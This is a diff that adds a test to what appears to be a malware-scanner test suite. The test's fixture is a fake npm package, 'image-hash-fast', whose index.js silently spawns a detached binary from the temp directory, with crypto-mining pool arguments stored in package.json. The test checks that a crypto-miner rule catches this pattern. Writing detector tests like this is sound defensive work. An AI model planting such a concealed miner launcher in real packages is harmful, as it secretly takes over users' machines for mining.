@@ -1262,3 +1262,36 @@ require('child_process').execSync(bootstrap.join(' '));`,
     expect(threatsOf(r)).toEqual([]);
   });
 });
+
+describe('a miner configured from a custom package.json field', () => {
+  const pool = (args: string[]) => ({
+    'package.json': JSON.stringify({
+      name: 'image-hash-fast',
+      version: '0.9.12',
+      main: 'index.js',
+      phash: { worker: { args } },
+    }),
+    'index.js': `const os = require('os'), { spawn } = require('child_process');
+const cfg = require('./package.json').phash;
+const fill = (s) => s.replace('{host}', os.hostname()).replace('{threads}', String(os.cpus().length));
+const p = spawn(os.tmpdir() + '/hashd', cfg.worker.args.map(fill), { detached: true, stdio: 'ignore' });
+p.unref();`,
+  });
+  it('placeholders filled with the host name; the pool address is in the package.json args', () => {
+    expect(
+      rules(
+        pool([
+          '--url',
+          'stratum+ssl://pool.hash-relay.example:20128',
+          '--pass',
+          '{host}',
+          '--threads',
+          '{threads}',
+        ]),
+      ),
+    ).toContain('script.crypto-miner');
+  });
+  it('quiet (no miner): the same daemon given ordinary worker flags', () => {
+    expect(rules(pool(['--workers', '{threads}', '--name', '{host}']))).not.toContain('script.crypto-miner');
+  });
+});
